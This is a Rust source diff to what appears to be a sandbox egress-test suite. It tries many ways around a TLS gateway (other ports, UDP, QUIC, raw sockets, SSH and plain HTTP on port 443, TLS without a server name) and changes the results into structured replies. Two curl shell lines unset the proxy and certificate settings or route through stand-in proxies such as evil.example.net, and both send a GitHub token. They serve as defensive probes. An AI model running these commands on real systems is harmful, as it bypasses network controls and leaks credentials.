@@ -1,36 +1,37 @@
 //! Ways out beside TLS to the gateway: other ports, other protocols, other sockets.
 
 use std::io::{Read, Write};
-use std::net::{IpAddr, Ipv6Addr, SocketAddr, TcpListener, TcpStream, UdpSocket};
+use std::net::{Ipv6Addr, SocketAddr, TcpListener, TcpStream, UdpSocket};
 
 use nix::sys::socket::{AddressFamily, SockFlag, SockProtocol, SockType, socket};
 
 use super::Channel::WaysOut;
 use super::Control::{Absent, Reaches};
 use super::To::Bound;
-use super::{Attempt, REACHED, asks, does, shell};
+use super::{Attempt, REACHED, asks, dials, does, web};
+use crate::answer::{Fault, Reply};
 use crate::probe::{Knowledge, PATIENCE};
 
 pub(super) const ATTEMPTS: &[Attempt] = &[
-    does("every common port of the internet", WaysOut, 20, Absent, other_ports),
+    dials("every common port of the internet", WaysOut, 20, Absent, other_ports).may_be_closed(),
     does("every common port of the machine", WaysOut, 20, Reaches, loopback_ports),
     does("UDP to anywhere", WaysOut, 20, Absent, udp),
-    does("QUIC to the bound host", WaysOut, 20, Absent, quic),
+    dials("QUIC to the bound host", WaysOut, 20, Absent, quic).may_be_closed(),
     does("ICMP", WaysOut, 20, Absent, icmp),
     does("raw sockets", WaysOut, 20, Absent, raw),
     does("packet sockets", WaysOut, 20, Absent, packet),
     does("SCTP, DCCP and UDP-Lite", WaysOut, 20, Absent, other_transports),
     does("VM, Bluetooth, CAN and other families", WaysOut, 20, Absent, other_families),
     does("netlink's other protocols", WaysOut, 20, Reaches, netlink),
-    does("IPv6 by address", WaysOut, 20, Absent, ipv6),
+    dials("IPv6 by address", WaysOut, 20, Absent, ipv6).may_be_closed(),
     does("multicast and broadcast", WaysOut, 20, Absent, multicast),
     does("a listener that others could reach", WaysOut, 20, Absent, listener),
-    does("plain HTTP to the bound host's port 80", WaysOut, 20, Absent, plain_http),
-    does("plain HTTP spoken on port 443", WaysOut, 19, Absent, plain_on_tls_port),
-    does("SSH spoken on port 443", WaysOut, 20, Absent, ssh),
-    does("an unknown protocol on port 443", WaysOut, 19, Absent, unknown_protocol),
-    does("TLS without a server name", WaysOut, 9, Absent, no_server_name),
-    shell(
+    dials("plain HTTP to the bound host's port 80", WaysOut, 20, Absent, plain_http),
+    dials("plain HTTP spoken on port 443", WaysOut, 19, Absent, plain_on_tls_port).may_be_closed(),
+    dials("SSH spoken on port 443", WaysOut, 20, Absent, ssh).may_be_closed(),
+    dials("an unknown protocol on port 443", WaysOut, 19, Absent, unknown_protocol).may_be_closed(),
+    dials("TLS without a server name", WaysOut, 9, Absent, no_server_name).may_be_closed(),
+    web(
         "unset every proxy and certificate variable",
         WaysOut,
         20,
@@ -38,14 +39,15 @@ pub(super) const ATTEMPTS: &[Attempt] = &[
         &["curl"],
         "unset https_proxy HTTPS_PROXY http_proxy ALL_PROXY SSL_CERT_FILE CURL_CA_BUNDLE; $C -k \"$FAR/echo\" -H \"Authorization: Bearer $GITHUB_TOKEN\" -H \"$NAMED\"",
     ),
-    shell(
+    web(
         "a proxy of its own",
         WaysOut,
         20,
         Absent,
         &["curl"],
         "for p in http://192.0.2.9:3128 socks5h://192.0.2.9:1080 https://evil.example.net:443; do $C -x $p \"$BASE/echo\" -H \"Authorization: Bearer $GITHUB_TOKEN\"; done",
-    ),
+    )
+    .may_be_closed(),
     asks(
         "Alt-Svc offered by the bound host",
         WaysOut,
@@ -56,9 +58,9 @@ pub(super) const ATTEMPTS: &[Attempt] = &[
     ),
 ];
 
-fn other_ports(knowledge: &Knowledge) -> Vec<u8> {
-    let host = knowledge.find(&knowledge.unbound).map_or(IpAddr::from([192, 0, 2, 1]), |address| address.ip());
-    PORTS.iter().flat_map(|port| say(SocketAddr::new(host, *port), knowledge)).collect()
+fn other_ports(knowledge: &Knowledge) -> Vec<Reply> {
+    let Some(host) = knowledge.find(&knowledge.unbound) else { return vec![Reply::unable("the name was not resolved")] };
+    PORTS.iter().map(|port| Reply::of(Ok(say(SocketAddr::new(host.ip(), *port), knowledge)))).collect()
 }
 
 fn loopback_ports(knowledge: &Knowledge) -> Vec<u8> {
@@ -89,12 +91,13 @@ fn udp(knowledge: &Knowledge) -> Vec<u8> {
         .collect()
 }
 
-/// An Initial packet's beginning (RFC 9000, section 17.2.2).
-fn quic(knowledge: &Knowledge) -> Vec<u8> {
+/// An Initial packet's beginning (RFC 9000, section 17.2.2). Nobody has to answer a datagram: what counts is that it arrives nowhere.
+fn quic(knowledge: &Knowledge) -> Vec<Reply> {
     let mut packet = b"\xc0\x00\x00\x00\x01\x08\x01\x02\x03\x04\x05\x06\x07\x08\x00\x00\x44\x9e".to_vec();
     packet.extend_from_slice(knowledge.token().as_bytes());
     packet.resize(1200, 0);
-    knowledge.find(&knowledge.bound).map_or_else(Vec::new, |to| datagram(to, &packet))
+    let found = knowledge.find(&knowledge.bound);
+    vec![found.map_or_else(|| Reply::unable("the name was not resolved"), |to| Reply::of(Ok(datagram(to, &packet))))]
 }
 
 fn datagram(to: SocketAddr, bytes: &[u8]) -> Vec<u8> {
@@ -151,7 +154,7 @@ fn opened(family: AddressFamily, kind: SockType, protocol: Option<SockProtocol>)
     }
 }
 
-fn ipv6(knowledge: &Knowledge) -> Vec<u8> {
+fn ipv6(knowledge: &Knowledge) -> Vec<Reply> {
     let request = knowledge.fill(
         "IPv6 by address",
         &knowledge.bound,
@@ -160,7 +163,7 @@ fn ipv6(knowledge: &Knowledge) -> Vec<u8> {
     ["2001:4860:4860::8888", "fd00::1", "::1", "fe80::1"]
         .into_iter()
         .filter_map(|address| address.parse::<Ipv6Addr>().ok())
-        .flat_map(|address| knowledge.ask_at(SocketAddr::from((address, 443)), &knowledge.bound, &request))
+        .map(|address| knowledge.ask_at(SocketAddr::from((address, 443)), &knowledge.bound, &request))
         .collect()
 }
 
@@ -186,45 +189,43 @@ fn listener(knowledge: &Knowledge) -> Vec<u8> {
     listened.unwrap_or_else(|error| error.to_string().into_bytes())
 }
 
-fn plain_http(knowledge: &Knowledge) -> Vec<u8> {
+fn plain_http(knowledge: &Knowledge) -> Vec<Reply> {
     plainly(knowledge, &knowledge.bound, 80, "GET /echo HTTP/1.1\r\nHost: {H}\r\nAuthorization: Bearer {T}\r\nConnection: close\r\n\r\n")
 }
 
-fn plain_on_tls_port(knowledge: &Knowledge) -> Vec<u8> {
+fn plain_on_tls_port(knowledge: &Knowledge) -> Vec<Reply> {
     plainly(knowledge, &knowledge.unbound, 443, "GET /echo HTTP/1.1\r\nHost: {H}\r\nAuthorization: Bearer {T}\r\nConnection: close\r\n\r\n")
 }
 
-fn ssh(knowledge: &Knowledge) -> Vec<u8> {
+fn ssh(knowledge: &Knowledge) -> Vec<Reply> {
     plainly(knowledge, "github.com", 443, "SSH-2.0-OpenSSH_9.9 {T}\r\n")
 }
 
-fn unknown_protocol(knowledge: &Knowledge) -> Vec<u8> {
+fn unknown_protocol(knowledge: &Knowledge) -> Vec<Reply> {
     plainly(knowledge, &knowledge.bound, 443, "\u{0}\u{1}\u{2}{T}\u{0}")
 }
 
-fn plainly(knowledge: &Knowledge, host: &str, port: u16, request: &str) -> Vec<u8> {
-    let Some(mut to) = knowledge.find(host) else { return b"no address".to_vec() };
+fn plainly(knowledge: &Knowledge, host: &str, port: u16, request: &str) -> Vec<Reply> {
+    let Some(mut to) = knowledge.find(host) else { return vec![Reply::unable("the name was not resolved")] };
     to.set_port(port);
-    let mut out = Vec::new();
-    let said = TcpStream::connect_timeout(&to, PATIENCE / 3).and_then(|mut stream| {
-        stream.set_read_timeout(Some(PATIENCE / 3))?;
+    let mut bytes = Vec::new();
+    let said = TcpStream::connect_timeout(&to, PATIENCE).and_then(|mut stream| {
+        stream.set_read_timeout(Some(PATIENCE))?;
         stream.write_all(&knowledge.fill("plainly", host, request))?;
-        stream.take(SAID_BYTES_MAX).read_to_end(&mut out)
+        stream.take(SAID_BYTES_MAX).read_to_end(&mut bytes)
     });
-    if let Err(error) = said {
-        out.extend_from_slice(error.to_string().as_bytes());
-    }
-    out
+    vec![Reply { bytes, fault: said.err().map(|error| Fault::of(&error)) }]
 }
 
 /// An address as TLS name puts no server name into the hello (RFC 6066, section 3).
-fn no_server_name(knowledge: &Knowledge) -> Vec<u8> {
+fn no_server_name(knowledge: &Knowledge) -> Vec<Reply> {
     let request = knowledge.fill(
         "TLS without a server name",
         &knowledge.bound,
         "GET /echo HTTP/1.1\r\nHost: {H}\r\n{A}Authorization: Bearer {T}\r\nConnection: close\r\n\r\n",
     );
-    knowledge.find(&knowledge.bound).map_or_else(Vec::new, |to| knowledge.ask_at(to, &to.ip().to_string(), &request))
+    let found = knowledge.find(&knowledge.bound);
+    vec![found.map_or_else(|| Reply::unable("the name was not resolved"), |to| knowledge.ask_at(to, &to.ip().to_string(), &request))]
 }
 
 const PORTS: &[u16] = &[
